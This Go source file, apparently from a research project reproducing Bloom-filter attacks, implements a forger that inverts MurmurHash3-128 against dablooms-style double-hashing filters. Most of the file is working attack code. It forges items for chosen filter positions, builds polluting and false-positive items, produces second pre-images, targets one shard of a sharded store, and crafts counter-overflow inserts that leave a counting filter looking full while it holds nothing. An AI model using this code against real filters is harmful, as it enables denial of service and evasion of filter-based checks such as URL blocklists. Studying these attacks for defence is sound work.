package attack

import (
	"fmt"
	"math/bits"
	"math/rand"

	"evilbloom/internal/core"
	"evilbloom/internal/hashes"
)

// InstantForger crafts items against Kirsch–Mitzenmacher families over
// MurmurHash3-128 (the dablooms construction) without any hash search: the
// digest is inverted in constant time (§6.2, "MurmurHash can be inverted in
// constant time"), so forging reduces to picking the two 64-bit digest
// halves (base, stride) that place all k indexes g_i = base + i·stride mod m
// wherever the adversary wants. Position selection costs only k array
// lookups per candidate pair — no hashing at all.
type InstantForger struct {
	k      int
	m      uint64
	seed   uint64
	prefix []byte
	rng    *rand.Rand
}

// NewInstantForger builds a forger for the family's geometry. prefix is
// prepended to every forged item and must be a multiple of 16 bytes (e.g.
// "http://evil.com/"); rngSeed makes position search deterministic.
func NewInstantForger(fam *hashes.DoubleHashing, prefix []byte, rngSeed int64) (*InstantForger, error) {
	if len(prefix)%16 != 0 {
		return nil, fmt.Errorf("attack: prefix length %d is not a multiple of 16", len(prefix))
	}
	p := make([]byte, len(prefix))
	copy(p, prefix)
	return &InstantForger{
		k:      fam.K(),
		m:      fam.M(),
		seed:   fam.Seed(),
		prefix: p,
		rng:    rand.New(rand.NewSource(rngSeed)),
	}, nil
}

// ItemFor forges an item whose index set is exactly
// {base + i·stride mod m : i < k}.
func (f *InstantForger) ItemFor(base, stride uint64) ([]byte, error) {
	return hashes.Murmur128PreimageIndexes(f.prefix, base, stride, f.m, f.seed)
}

// ItemInShard is ItemFor against a sharded naive store of the current
// placement layout, which takes the shard from the top log₂(shards) bits of
// the digest half h1 it also indexes with: the forged item has ItemFor's
// index set AND is routed to shard, so one shard fills with 1/shards of the
// insertions the whole store would need. (Layout 1 routed by a secret key.)
// variant picks among the many digests with that placement — the paper's
// multiple pre-images; a caller who needs items of some shape (printable, to
// survive a JSON transport) enumerates variants.
func (f *InstantForger) ItemInShard(shard, shards int, base, stride, variant uint64) ([]byte, error) {
	if shards < 1 || shards&(shards-1) != 0 || shard < 0 || shard >= shards {
		return nil, fmt.Errorf("attack: shard %d of %d (want a power-of-two count)", shard, shards)
	}
	if base >= f.m || stride >= f.m {
		return nil, fmt.Errorf("attack: base %d or stride %d out of range for m=%d", base, stride, f.m)
	}
	// The smallest h1 with the wanted top bits, moved up to the first value
	// ≡ base (mod m), then variant·m further: still inside the shard's
	// 2^(64−log₂ shards) values for any filter and variant count in reach.
	h1 := uint64(shard) << (64 - uint(bits.TrailingZeros(uint(shards))))
	h1 += (base+f.m-h1%f.m)%f.m + variant*f.m
	return hashes.Murmur128Preimage(f.prefix, h1, stride, f.seed)
}

// positions fills dst with the arithmetic progression for (base, stride),
// summed as DoubleHashing.Indexes sums it.
func (f *InstantForger) positions(dst []uint64, base, stride uint64) []uint64 {
	return hashes.Progression(dst, base%f.m, stride%f.m, f.m, f.k)
}

// PollutingItem returns an item satisfying condition (6) against view,
// searching only over (base, stride) pairs — pure array lookups, then one
// constant-time inversion. pairBudget bounds the pairs examined (0 =
// unbounded).
func (f *InstantForger) PollutingItem(view View, pairBudget uint64) ([]byte, error) {
	base, stride, err := f.findPair(view, pairBudget, func(idx []uint64) bool {
		return IsPolluting(view, idx)
	})
	if err != nil {
		return nil, err
	}
	return f.ItemFor(base, stride)
}

// FalsePositiveItem returns an item satisfying condition (8) against view.
func (f *InstantForger) FalsePositiveItem(view View, pairBudget uint64) ([]byte, error) {
	base, stride, err := f.findPair(view, pairBudget, func(idx []uint64) bool {
		return IsFalsePositive(view, idx)
	})
	if err != nil {
		return nil, err
	}
	return f.ItemFor(base, stride)
}

func (f *InstantForger) findPair(view View, budget uint64, cond func([]uint64) bool) (uint64, uint64, error) {
	scratch := make([]uint64, 0, f.k)
	for tried := uint64(0); budget == 0 || tried < budget; tried++ {
		base := uint64(f.rng.Int63()) % f.m
		stride := uint64(f.rng.Int63()) % f.m
		scratch = f.positions(scratch[:0], base, stride)
		if cond(scratch) {
			return base, stride, nil
		}
	}
	return 0, 0, fmt.Errorf("%w after %d position pairs", ErrBudgetExhausted, budget)
}

// SecondPreimage forges an item with exactly the victim's index set — a
// Bloom-level second pre-image (probability 1/m^k for brute force, Table 1)
// obtained here in constant time. The victim's set must be an arithmetic
// progression, which every item of a Kirsch–Mitzenmacher family is.
func (f *InstantForger) SecondPreimage(victimIdx []uint64) ([]byte, error) {
	if len(victimIdx) != f.k {
		return nil, fmt.Errorf("attack: victim has %d indexes, family has k=%d", len(victimIdx), f.k)
	}
	base := victimIdx[0]
	var stride uint64
	if f.k > 1 {
		stride = (victimIdx[1] + f.m - victimIdx[0]) % f.m
	}
	// Verify the progression matches (it must, for items of this family).
	for i, v := range victimIdx {
		if (base+uint64(i)*stride)%f.m != v {
			return nil, fmt.Errorf("attack: victim index set is not an arithmetic progression at position %d", i)
		}
	}
	return f.ItemFor(base, stride)
}

// EmptyViaOverflow performs the §6.2 counter-overflow attack against a
// wrapping counting filter: it returns `inserts` items which, once added by
// the trusted party, leave every touched counter back at zero except at most
// one holding a = inserts·k mod 2^width. After a full stage capacity of such
// insertions the stage believes it is full while containing nothing — "a
// complete waste of memory".
//
// Mechanism: each crafted item uses stride 0, collapsing all k increments
// onto one counter; 2^width inserts of the same item wrap that counter back
// to zero (k odd ⇒ the walk visits all residues). Groups use distinct
// counters so the damage stays invisible between groups.
func (f *InstantForger) EmptyViaOverflow(c *core.Counting, inserts uint64) ([][]byte, error) {
	if c.K() != f.k || c.M() != f.m {
		return nil, fmt.Errorf("attack: forger geometry (k=%d, m=%d) does not match filter (k=%d, m=%d)", f.k, f.m, c.K(), c.M())
	}
	period := c.CounterMax() + 1
	g := gcd(uint64(f.k), period)
	perGroup := period / g // inserts to wrap one counter to exactly 0
	items := make([][]byte, 0, inserts)
	var counter uint64
	for uint64(len(items)) < inserts {
		remaining := inserts - uint64(len(items))
		n := perGroup
		if remaining < perGroup {
			n = remaining // the final partial group leaves residue a = n·k mod period
		}
		item, err := f.ItemFor(counter%f.m, 0)
		if err != nil {
			return nil, err
		}
		for i := uint64(0); i < n; i++ {
			items = append(items, item)
		}
		counter++
	}
	return items, nil
}

func gcd(a, b uint64) uint64 {
	for b != 0 {
		a, b = b, a%b
	}
	return a
}
